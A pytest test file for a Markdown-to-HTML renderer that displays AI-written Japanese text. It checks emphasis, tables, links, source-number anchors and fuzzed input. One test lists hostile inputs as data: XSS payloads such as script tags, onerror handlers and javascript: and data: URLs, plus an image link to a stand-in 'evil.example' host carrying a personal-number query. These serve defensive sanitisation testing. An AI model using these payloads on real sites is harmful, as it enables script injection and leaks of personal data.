"""What an AI wrote, as a page shows it."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from kijun.web.markdown import LONGEST, rendered


def test_it_works() -> None:
    html = rendered(
        "# 手順\n\n1. 申請書を受け取る\n2. **期限**を確かめる\n\n| 区分 | 日数 |\n|---|---|\n| 新規 | 14日 |\n"
    )
    page = BeautifulSoup(html, "html.parser")
    assert [one.get_text() for one in page.find_all("h4")] == ["手順"]
    assert [one.get_text() for one in page.find_all("li")] == ["申請書を受け取る", "期限を確かめる"]
    assert [one.get_text() for one in page.find_all(["th", "td"])] == ["区分", "日数", "新規", "14日"]


@pytest.mark.parametrize(
    ("text", "strong"),
    [
        ("これは**「重要」**です", "「重要」"),
        ("**注意：**必ず確かめます。", "注意："),
        ("提出は**3月31日（月）**までに", "3月31日（月）"),
        ("**plain** words", "plain"),
    ],
)
def test_emphasis_beside_japanese_marks(text: str, strong: str) -> None:
    page = BeautifulSoup(rendered(text), "html.parser")
    assert [one.get_text() for one in page.find_all("strong")] == [strong]
    assert "*" not in page.get_text()


@pytest.mark.parametrize("text", ["2 ** 3 ** 4", "**開いたまま", "語****語", "** 空白 **"])
def test_what_is_no_emphasis_stays(text: str) -> None:
    assert BeautifulSoup(rendered(text), "html.parser").get_text().strip() == text


def test_a_line_break_is_one_and_a_paragraph_another() -> None:
    assert rendered("一行目\n二行目\n\n次の段落") == "<p>一行目<br />\n二行目</p>\n<p>次の段落</p>\n"


def test_numbers_of_sources_lead_to_them_and_others_stay() -> None:
    page = BeautifulSoup(rendered("根拠は[1]と[3]。`[1]`はコード。", {1: "#source-2-1"}), "html.parser")
    assert [(one["href"], one.get_text()) for one in page.find_all("a")] == [("#source-2-1", "[1]")]
    assert "[3]" in page.get_text()


def test_a_link_shows_where_it_leads() -> None:
    page = BeautifulSoup(
        rendered("[市の案内](https://example.jp/a?b=1&c=2)と<https://example.jp/>"), "html.parser"
    )
    assert page.get_text().strip() == "市の案内（https://example.jp/a?b=1&c=2）とhttps://example.jp/"
    assert [one["href"] for one in page.find_all("a")] == [
        "https://example.jp/a?b=1&c=2",
        "https://example.jp/",
    ]
    assert all("noreferrer" in one["rel"] for one in page.find_all("a"))


@pytest.mark.parametrize(
    "text",
    [
        "![図](https://evil.example/x.png?q=個人番号)",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "[押す](javascript:alert(1))",
        "[押す](JaVaScRiPt&#58;alert(1))",
        "[押す](data:text/html;base64,PHNjcmlwdD4=)",
        "[1]: https://evil.example/\n\n[1]",
        '[題](https://example.jp/ "onmouseover=alert(1)")',
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "<http://[>",
        "[押す](http://[)",
        "[押す](//evil.example/)",
        "<style>body{display:none}</style>",
        '| a |\n|---|\n| <iframe src="//x"></iframe> |',
    ],
)
def test_hostile_text_loads_and_runs_nothing(text: str) -> None:
    page = BeautifulSoup(rendered(text, {2: "#source-1-2"}), "html.parser")
    assert not page.find_all(["img", "script", "style", "iframe", "object", "form", "input"])
    for one in page.find_all(True):
        assert set(one.attrs) <= {"href", "rel", "class", "start"}
        assert str(one.get("href", "https://")).startswith(("https://", "http://"))


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="*_`[]()!<>|#-~\\\n 「」あa1:/\"'&", max_size=200))
def test_no_text_breaks_it(text: str) -> None:
    page = BeautifulSoup(rendered(text, {1: "#source-1-1"}), "html.parser")
    assert not page.find_all(["img", "script"])


def test_a_column_to_the_right_is_one_by_a_class() -> None:
    """A style in the page would be refused by its policy."""
    html = rendered("| 額 |\n|---:|\n| 1,200円 |\n")
    assert '<td class="number">1,200円</td>' in html


def test_a_text_without_end_stays_text() -> None:
    assert rendered("あ" * (LONGEST + 1)).startswith('<p class="pre-line">')


@pytest.mark.parametrize("piece", ["**あ`", "[", "> ", "![](", "**", "~~", "|a", "`"])
def test_marks_without_end_come_to_an_end(piece: str) -> None:
    assert rendered(piece * 5_000)
